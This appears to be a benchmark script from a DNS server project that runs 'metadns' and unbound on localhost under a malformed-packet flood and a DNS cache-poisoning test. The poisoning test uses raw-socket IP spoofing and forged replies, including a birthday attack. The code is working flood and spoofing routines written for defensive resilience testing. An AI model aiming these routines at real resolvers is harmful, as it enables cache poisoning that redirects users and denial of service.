"""metadns and unbound under attack, side by side, one run (root: forged replies need a raw socket).

  flood   good queries (1,000 local names, dnsperf) with and without a mixed garbage flood at
          --pps packets/s (labels with bytes >= 0x80, EDNS options longer than their record,
          responses, runts, compression loops, random bytes); reported as the ratio of the two.
  poison  an off-path attacker who learned the port of the server's previous upstream query
          (a query for a name it serves itself is enough) floods forged replies, spoofed from
          the upstream's address, at random IDs while the victim's query waits on a slow
          upstream; in single-query rounds and in rounds with 100 identical queries in flight
          (the birthday attack). Reported: forged replies sent, rounds poisoned, and poisoned
          answers served (to the clients in flight and from the cache afterwards).

Servers run pinned to CPU 0, dnsperf, the flood and the attacker to CPU 1. Every process started
is stopped at the end; all traffic stays on 127.0.0.0/8.

    sudo .venv/bin/python bench/hardening.py [--duration 5] [--pps 5000] [--rounds 12]
"""

from __future__ import annotations

import argparse
import contextlib
import os
import random
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from dns_compare import (
    Processes,
    dnsperf,
    make_data,
    start_metadns,
    start_unbound_peer,
    start_upstream,
    write_queries,
)

FORGED_ADDRESS = "203.0.113.66"
GENUINE_ADDRESS = "192.0.2.1"

FLOOD_SCRIPT = r"""
import os, random, socket, struct, sys, time
port, pps, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
head = lambda ar=0, flags=0x0100: struct.pack("!HHHHHH", random.getrandbits(16), flags, 1, 0, 0, ar)
zone = b"\x07rancher\x08internal\x00"
kinds = [
    lambda: head() + b"\x03w\xffb" + zone + b"\x00\x01\x00\x01",
    lambda: head(1) + b"\x03www" + zone + b"\x00\x01\x00\x01" + b"\x00" + struct.pack("!HHIH", 41, 1232, 0, 6)
            + struct.pack("!HH", 10, 8) + b"\x00\x00",
    lambda: head(flags=0x8180) + b"\x03www" + zone + b"\x00\x01\x00\x01",
    lambda: os.urandom(random.randint(1, 11)),
    lambda: head() + b"\xc0\x0c\x00\x01\x00\x01",
    lambda: os.urandom(random.randint(12, 300)),
]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent, started = 0, time.monotonic()
total = int(pps * seconds)
while sent < total and time.monotonic() - started < seconds + 5:
    due = started + sent / pps
    now = time.monotonic()
    if due > now:
        time.sleep(due - now)
    try:
        s.sendto(random.choice(kinds)(), ("127.0.0.1", port))
    except OSError:
        pass
    sent += 1
print(sent)
"""


def flood_ratio(port: int, queries: Path, seconds: float, pps: int) -> tuple[float, float, int]:
    dnsperf(port, queries, 60, once=True)  # warm the caches
    clean, _, _, _ = dnsperf(port, queries, seconds)
    flood = subprocess.Popen(
        ["taskset", "-c", "1", sys.executable, "-c", FLOOD_SCRIPT, str(port), str(pps), str(seconds + 1)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        time.sleep(0.5)
        flooded, _, _, _ = dnsperf(port, queries, seconds)
        out, _ = flood.communicate(timeout=seconds + 30)
    finally:
        if flood.poll() is None:
            flood.kill()
            flood.wait()
    return clean, flooded, int(out.strip() or 0)


class SlowUpstream(threading.Thread):
    """The victim's upstream: answers every A question with GENUINE_ADDRESS after ``delay``
    seconds (the window an attacker races), and remembers the source port of each query."""

    def __init__(self, delay: float) -> None:
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.address = self.sock.getsockname()
        self.delay = delay
        self.last_port = 0
        self.queries = 0
        self.stopping = False

    def run(self) -> None:
        while not self.stopping:
            try:
                data, addr = self.sock.recvfrom(4096)
            except OSError:
                continue
            self.queries += 1
            self.last_port = addr[1]
            threading.Timer(self.delay, self._answer, (data, addr)).start()

    def _answer(self, query: bytes, addr: tuple[str, int]) -> None:
        with contextlib.suppress(OSError):
            self.sock.sendto(reply_for(query, GENUINE_ADDRESS), addr)


def question_end(packet: bytes) -> int:
    i = 12
    while packet[i]:
        i += 1 + packet[i]
    return i + 5


def reply_for(query: bytes, address: str, qid: int | None = None) -> bytes:
    end = question_end(query)
    flags = 0x8180 | (struct.unpack_from("!H", query, 2)[0] & 0x0100)
    head = struct.pack("!HHHHHH", struct.unpack_from("!H", query)[0] if qid is None else qid, flags, 1, 1, 0, 0)
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
    return head + query[12:end] + answer


def query_for(name: str) -> bytes:
    wire = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\x00"
    return struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + wire + b"\x00\x01\x00\x01"


def ask(port: int, name: str, source: str, results: list[str]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        s.settimeout(3)
        packet = query_for(name)
        s.sendto(packet, ("127.0.0.1", port))
        try:
            reply = s.recv(4096)
        except OSError:
            results.append("timeout")
            return
        results.append(socket.inet_ntoa(reply[-4:]) if reply[7] else "empty")


def spoof(raw: socket.socket, source: tuple[str, int], port: int, payload: bytes) -> None:
    udp = struct.pack("!HHHH", source[1], port, 8 + len(payload), 0) + payload
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(source[0]),
        socket.inet_aton("127.0.0.1"),
    )
    raw.sendto(ip + udp, ("127.0.0.1", 0))


def poison_rounds(
    port: int, upstream: SlowUpstream, rounds: int, in_flight: int, forged: int, tag: str
) -> tuple[int, int, int]:
    """(forged replies sent, rounds poisoned, poisoned answers served)."""
    sent = poisoned_rounds = poisoned_answers = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for r in range(rounds):
            probe: list[str] = []
            ask(port, f"probe{r}.{tag}.attacker.test", "127.0.20.1", probe)  # learn the port in use
            known_port = upstream.last_port
            seen = upstream.queries
            victim = f"victim{r}.{tag}.bank.test"
            results: list[str] = []
            clients = [
                threading.Thread(target=ask, args=(port, victim, f"127.0.21.{1 + k % 200}", results))
                for k in range(in_flight)
            ]
            for c in clients:
                c.start()
            deadline = time.monotonic() + 1
            while upstream.queries == seen and time.monotonic() < deadline:
                time.sleep(0.001)
            template = reply_for(query_for(victim), FORGED_ADDRESS, 0)
            for _ in range(forged):
                spoof(raw, upstream.address, known_port, struct.pack("!H", random.getrandbits(16)) + template[2:])
                sent += 1
            for c in clients:
                c.join()
            later: list[str] = []
            for k in range(40):  # clients asking after the race: served from the cache
                ask(port, victim, f"127.0.22.{1 + k}", later)
            bad = results.count(FORGED_ADDRESS) + later.count(FORGED_ADDRESS)
            poisoned_answers += bad
            poisoned_rounds += bad > 0
    return sent, poisoned_rounds, poisoned_answers


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--duration", type=float, default=5.0)
    parser.add_argument("--pps", type=int, default=5000)
    parser.add_argument("--rounds", type=int, default=12)
    parser.add_argument("--forged", type=int, default=5000, help="forged replies per round")
    parser.add_argument("--only", default="flood,poison")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("forged replies need a raw socket: run as root")
    wanted = args.only.split(",")
    with tempfile.TemporaryDirectory() as tmp:
        data = make_data(Path(tmp))
        queries = write_queries(data)
        procs = Processes()
        slow = SlowUpstream(delay=0.25)
        slow.start()
        try:
            if "flood" in wanted:
                upstream = start_upstream(procs, data)
                servers = {
                    "metadns": start_metadns(procs, data, upstream)[0],
                    "unbound": start_unbound_peer(procs, data, upstream)[0],
                }
                print("| server | good QPS clean | good QPS in flood | ratio | garbage sent |")
                print("|---|--:|--:|--:|--:|")
                for name, port in servers.items():
                    clean, flooded, garbage = flood_ratio(port, queries["local-1src"], args.duration, args.pps)
                    print(
                        f"| {name} | {clean:,.0f} | {flooded:,.0f} | {flooded / clean:.2f}x | {garbage:,} |", flush=True
                    )
                procs.stop_all()
            if "poison" in wanted:
                up = slow.address[1]
                servers = {
                    "metadns": start_metadns(procs, data, up)[0],
                    "unbound": start_unbound_peer(procs, data, up)[0],
                }
                print("\n| server | mode | rounds | forged replies sent | rounds poisoned | poisoned answers served |")
                print("|---|---|--:|--:|--:|--:|")
                for name, port in servers.items():
                    for mode, in_flight, rounds in (
                        ("1 query", 1, args.rounds),
                        ("100 identical", 100, max(args.rounds // 2, 1)),
                    ):
                        sent, bad_rounds, bad = poison_rounds(
                            port, slow, rounds, in_flight, args.forged, f"{name}{in_flight}"
                        )
                        print(f"| {name} | {mode} | {rounds} | {sent:,} | {bad_rounds} | {bad} |", flush=True)
        finally:
            slow.stopping = True
            procs.stop_all()


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        main()
